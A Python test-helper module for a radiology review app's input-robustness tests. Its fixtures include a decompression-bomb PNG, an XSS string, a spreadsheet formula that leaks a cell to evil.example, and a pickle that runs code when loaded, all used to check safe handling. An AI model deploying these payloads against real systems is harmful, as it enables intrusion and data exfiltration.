"""Shared pieces of the reliability tests (issue 8): the table of bad inputs, row counts of the feedback
database, a tiny random checkpoint, the app and the trainer as killable subprocesses, and the table of
how each input was handled (written to test-artifacts/ for the note).
"""

from __future__ import annotations

import io
import json
import os
import signal
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image

REPO = Path(__file__).resolve().parents[1]
ARTIFACTS = REPO / "test-artifacts"
QUESTION = "what has changed compared to the reference image?"
CHILD_ENV = {"GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_DISABLE_TELEMETRY": "1", "HF_HUB_OFFLINE": "1",
             "TRANSFORMERS_OFFLINE": "1", "OMP_NUM_THREADS": "1", "MKL_NUM_THREADS": "1", "PYTHONUNBUFFERED": "1"}


# ------------------------------------------------------------------------------------------ images


def gradient(height: int = 48, width: int = 64) -> np.ndarray:
    """uint8 image whose value grows along both axes (no symmetry)."""
    yy, xx = np.mgrid[0:height, 0:width]
    return ((yy * 2 + xx) * 255 // (2 * (height - 1) + width - 1)).astype(np.uint8)


def encode(image: Image.Image, fmt: str, **params: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def _noise(fmt: str) -> bytes:
    return encode(Image.fromarray(np.random.default_rng(0).integers(0, 255, (64, 64), dtype=np.uint8)), fmt)


def _bomb() -> bytes:
    """A PNG header declaring 60000 x 60000 gray pixels (3.6 Gpx, ~3.4 GB decoded) and a real IDAT of a few
    zero rows: the reader must refuse it from the header, before any decoding."""
    header = struct.pack(">IIBBBBB", 60000, 60000, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (60001 * 16), 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")


def _exif_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90 degrees clockwise to display
    return encode(Image.fromarray(gradient(48, 64)), "JPEG", quality=95, exif=exif)


def _rgba() -> bytes:
    rgba = np.dstack([gradient()] * 3 + [np.full(gradient().shape, 255, np.uint8)])
    rgba[:, :10, 3] = 0
    return encode(Image.fromarray(rgba, "RGBA"), "PNG")


def _pydicom_file(name: str) -> str:
    from pydicom.data import get_testdata_file

    path = get_testdata_file(name, download=False)
    if path is None:
        raise FileNotFoundError(f"pydicom test file {name} is not installed")
    return str(path)


def _dicom_bytes(dataset: Any) -> bytes:
    buffer = io.BytesIO()
    dataset.save_as(buffer, enforce_file_format=True)
    return buffer.getvalue()


def _monochrome1() -> bytes:
    """pydicom's CR MONOCHROME1 example (16 x 16) enlarged to 64 x 64."""
    import pydicom

    dataset = pydicom.dcmread(_pydicom_file("6154"))
    stored = np.kron(dataset.pixel_array, np.ones((4, 4), dtype=dataset.pixel_array.dtype))
    dataset.Rows, dataset.Columns = stored.shape
    dataset.PixelData = stored.tobytes()
    return _dicom_bytes(dataset)


def dicom_without_pixels() -> bytes:
    """A valid DICOM file (a structured report) with no pixel data, as bytes."""
    import pydicom

    meta = pydicom.dataset.FileMetaDataset()
    meta.MediaStorageSOPClassUID = pydicom.uid.BasicTextSRStorage
    meta.MediaStorageSOPInstanceUID = pydicom.uid.generate_uid()
    meta.TransferSyntaxUID = pydicom.uid.ExplicitVRLittleEndian
    dataset = pydicom.Dataset()
    dataset.file_meta = meta
    dataset.SOPClassUID = meta.MediaStorageSOPClassUID
    dataset.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    dataset.Modality = "SR"
    return _dicom_bytes(dataset)


def jpeg_ls_decoder_available() -> bool:
    from pydicom.pixels.decoders import JPEGLSLosslessDecoder

    return bool(JPEGLSLosslessDecoder.is_available)


# --------------------------------------------------------------------------------- the input table

LONG_TEXT = ("the main image shows " * 500)[:9_999] + "."  # 10,000 characters, nothing to strip
EMOJI_TEXT = "🫁 has the 🫀 changed? 👀 — naïve café ﬁ"  # emoji, combining-free accents, a ligature
HTML_TEXT = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script> what has changed?'
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SURROGATE_TEXT = "what has \ud800 changed?"  # a lone UTF-16 surrogate: valid JSON, invalid Unicode text


@dataclass(frozen=True)
class BadInput:
    """One row of the bad-input table.

    Attributes:
        key: test id.
        label: what the input is, for the note.
        field: which input it replaces: "main" (the main image), "question" or "correction".
        value: bytes of the file (images) with ``filename``, or the text.
        refused: regex of the expected message when it must be refused; None when it must be accepted.
    """

    key: str
    label: str
    field: str
    make: Callable[[], Any]
    filename: str = ""
    refused: str | None = None
    needs_no_jpeg_ls: bool = False


BAD_INPUTS: list[BadInput] = [
    BadInput("empty-file", "empty file (0 bytes, .png)", "main", lambda: b"", "empty.png", r"file is empty"),
    BadInput("truncated-png", "truncated PNG (first half)", "main", lambda: _noise("PNG")[:_noise_half("PNG")],
             "cut.png", r"PNG file is truncated or corrupt"),
    BadInput("truncated-jpeg", "truncated JPEG (first half)", "main", lambda: _noise("JPEG")[:_noise_half("JPEG")],
             "cut.jpg", r"JPEG file is truncated or corrupt"),
    BadInput("text-as-png", "text file named .png", "main",
             lambda: b"Findings: no pneumothorax. Impression: stable.\n" * 5, "report.png",
             r"not an image or DICOM \(it looks like text\)"),
    BadInput("decompression-bomb", "decompression bomb: PNG declaring 60000 x 60000 (3.6 Gpx), 1 KB file", "main",
             _bomb, "bomb.png", r"declares 60000 x 60000 pixels; the limit is 50,000,000"),
    BadInput("png-16bit", "16-bit grayscale PNG (12-bit data)", "main",
             lambda: encode(Image.fromarray((1000 + gradient().astype(np.uint16) * 8).astype(np.uint16)), "PNG"),
             "sixteen.png"),
    BadInput("png-rgba", "RGBA PNG with transparent strip", "main", _rgba, "rgba.png"),
    BadInput("png-palette", "palette (P mode) PNG", "main",
             lambda: encode(Image.fromarray(gradient()).convert("P"), "PNG"), "palette.png"),
    BadInput("jpeg-cmyk", "CMYK JPEG", "main",
             lambda: encode(Image.fromarray(gradient()).convert("RGB").convert("CMYK"), "JPEG", quality=95),
             "cmyk.jpg"),
    BadInput("jpeg-exif-rotated", "EXIF-rotated JPEG (orientation 6)", "main", _exif_jpeg, "rotated.jpg"),
    BadInput("tiny-8x8", "8 x 8 image", "main", lambda: encode(Image.new("L", (8, 8)), "PNG"), "tiny.png",
             r"8 x 8 pixels, too small to be a radiograph"),
    BadInput("aspect-10-to-1", "extreme aspect ratio (400 x 40)", "main",
             lambda: encode(Image.new("L", (400, 40), 128), "PNG"), "strip.png", r"aspect ratio beyond 1:8"),
    BadInput("dicom-monochrome1", "DICOM CR, MONOCHROME1 (inverted grayscale)", "main", _monochrome1, "mono1.dcm"),
    BadInput("dicom-jpeg-ls-no-decoder", "DICOM with JPEG-LS transfer syntax, no decoder installed", "main",
             lambda: Path(_pydicom_file("MR_small_jpeg_ls_lossless.dcm")).read_bytes(), "jpegls.dcm",
             r"compressed transfer syntax JPEG-LS Lossless.*no decoder", needs_no_jpeg_ls=True),
    BadInput("dicom-no-pixel-data", "DICOM without pixel data (structured report)", "main", dicom_without_pixels,
             "report.dcm", r"DICOM file has no pixel data"),
    BadInput("non-dicom-dcm", "non-DICOM .dcm (a PNG renamed)", "main",
             lambda: encode(Image.fromarray(gradient()), "PNG"), "scan.dcm", r"\.dcm file is not DICOM"),
    BadInput("question-empty", "empty question", "question", lambda: "   ", refused=r"question is empty"),
    BadInput("question-10k", "10,000-character question", "question", lambda: LONG_TEXT,
             refused=r"10000 characters long; the limit is 1000"),
    BadInput("question-emoji", "emoji question", "question", lambda: EMOJI_TEXT),
    BadInput("question-html", "HTML/script question", "question", lambda: HTML_TEXT),
    BadInput("question-surrogate", "question with a lone surrogate (invalid Unicode)", "question",
             lambda: SURROGATE_TEXT, refused=r"invalid Unicode"),
    BadInput("correction-empty", "empty correction (it is optional)", "correction", lambda: ""),
    BadInput("correction-10k", "10,000-character correction", "correction", lambda: LONG_TEXT,
             refused=r"corrected answer is too long: 10,000 characters \(at most 2,000\)"),
    BadInput("correction-emoji", "emoji correction", "correction", lambda: EMOJI_TEXT),
    BadInput("correction-html", "HTML/script correction", "correction", lambda: HTML_TEXT),
    BadInput("correction-formula", "spreadsheet formula correction (=HYPERLINK...)", "correction",
             lambda: FORMULA_TEXT),
    BadInput("correction-surrogate", "correction with a lone surrogate (invalid Unicode)", "correction",
             lambda: SURROGATE_TEXT, refused=r"invalid Unicode"),
]


def _noise_half(fmt: str) -> int:
    return len(_noise(fmt)) // 2


def valid_png() -> bytes:
    """A readable 48 x 64 grayscale PNG (the partner image of every image row)."""
    return encode(Image.fromarray(gradient()), "PNG")


# ------------------------------------------------------------------------------------- the database


TABLES = ("reviewers", "cases", "analyses", "reviews", "audit_log")


def row_counts(engine: Any) -> dict[str, int]:
    """Rows per table of the feedback database."""
    from sqlalchemy import text

    with engine.connect() as conn:
        return {table: int(conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()) for table in TABLES}


# ------------------------------------------------------------------------------------ handling table


class HandlingTable:
    """Collects "input -> handling" per interface and writes it as JSON and Markdown into test-artifacts/."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.rows: dict[str, dict[str, str]] = {}

    def record(self, case: BadInput, interface: str, handling: str) -> None:
        row = self.rows.setdefault(case.key, {"input": case.label})
        row[interface] = " ".join(handling.split())[:240]

    def write(self) -> Path:
        ARTIFACTS.mkdir(exist_ok=True)
        ordered = [self.rows[c.key] for c in BAD_INPUTS if c.key in self.rows]
        (ARTIFACTS / f"{self.name}.json").write_text(json.dumps(ordered, indent=2, ensure_ascii=False),
                                                      encoding="utf-8")
        columns = ["input", "python", "app"]
        lines = ["| input | Python API | app API (gradio_client) |", "|---|---|---|"]
        for row in ordered:
            lines.append("| " + " | ".join(row.get(c, "").replace("|", "\\|") for c in columns) + " |")
        path = ARTIFACTS / f"{self.name}.md"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return path


# ------------------------------------------------------------------------------ checkpoint, processes


def save_tiny_checkpoint(directory: Path) -> Path:
    """The tiny preset with random weights, saved as a checkpoint folder (safetensors + JSON)."""
    from diffvqa_core import DiffVQAConfig, DiffVQAModel
    from diffvqa_core.tokenizer import local_tokenizer

    config = DiffVQAConfig.from_preset("tiny")
    model = DiffVQAModel(config, local_tokenizer(config.local_tokenizer_vocab_size), load_pretrained_parts=False)
    model.save_pretrained(directory)
    return directory


class _Payload:
    """Unpickling this creates a folder: proof that a pickle was executed."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.marker),)


def write_pickle(path: Path, marker: Path) -> Path:
    """A pickle "checkpoint" that creates ``marker`` if anything ever unpickles it."""
    import pickle

    path.write_bytes(pickle.dumps({"state_dict": _Payload(marker)}))
    return path


def child_env(**extra: str) -> dict[str, str]:
    env = dict(os.environ)
    env.update(CHILD_ENV)
    env.update(extra)
    return env


@dataclass
class AppProcess:
    """``python app.py`` running as a child process in its own process group."""

    process: subprocess.Popen
    url: str
    log: Path

    def kill(self) -> None:
        """SIGKILL, no chance to clean up."""
        if self.process.poll() is None:
            os.killpg(self.process.pid, signal.SIGKILL)
        self.process.wait(timeout=30)

    def output(self) -> str:
        return self.log.read_text(encoding="utf-8", errors="replace")

    @property
    def port(self) -> int:
        return int(self.url.rstrip("/").rsplit(":", 1)[1])


def start_app(tmp: Path, db_url: str, checkpoint: Path, port: int, *, auth: Path | None = None,
              host: str | None = None, timeout: float = 240.0) -> AppProcess:
    """Start ``python app.py --checkpoint ... --db ... --port ...`` and wait until it answers HTTP."""
    import urllib.error
    import urllib.request

    args = [sys.executable, "app.py", "--checkpoint", str(checkpoint), "--db", db_url, "--port", str(port),
            "--no-synthetic-examples"]
    if auth is not None:
        args += ["--auth", str(auth)]
    if host is not None:
        args += ["--host", host]
    log = tmp / f"app-{port}.log"
    handle = log.open("wb")
    process = subprocess.Popen(args, cwd=REPO, env=child_env(DIFFVQA_DATA_DIR=str(tmp / "data")), stdout=handle,
                               stderr=subprocess.STDOUT, start_new_session=True)
    app = AppProcess(process, f"http://127.0.0.1:{port}/", log)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise RuntimeError(f"app.py exited with {process.returncode}:\n{app.output()[-3000:]}")
        if "DiffVQA review app on" in app.output():
            try:
                urllib.request.urlopen(app.url + "config", timeout=5).read()
                return app
            except urllib.error.HTTPError:  # it answers (401 behind --auth)
                return app
            except OSError:
                pass
        time.sleep(0.5)
    app.kill()
    raise TimeoutError(f"app.py did not come up in {timeout:.0f} s:\n{app.output()[-3000:]}")


def stop(app: AppProcess) -> None:
    """End the app (SIGTERM, then SIGKILL)."""
    if app.process.poll() is None:
        os.killpg(app.process.pid, signal.SIGTERM)
        try:
            app.process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            app.kill()


def listening_addresses(port: int) -> set[str]:
    """Local addresses with a TCP socket LISTENing on ``port`` (from /proc/net/tcp and tcp6)."""
    found: set[str] = set()
    for table, width in (("/proc/net/tcp", 8), ("/proc/net/tcp6", 32)):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            address, port_hex = fields[1].split(":")
            if int(port_hex, 16) == port and fields[3] == "0A":  # 0A = LISTEN
                found.add(_decode_address(address, width))
    return found


def _decode_address(hex_address: str, width: int) -> str:
    import ipaddress

    raw = bytes.fromhex(hex_address)
    if width == 8:
        return str(ipaddress.IPv4Address(raw[::-1]))
    words = b"".join(raw[i : i + 4][::-1] for i in range(0, 16, 4))
    return str(ipaddress.IPv6Address(words))


def iter_cases(field: str) -> Iterator[BadInput]:
    return (case for case in BAD_INPUTS if case.field == field)
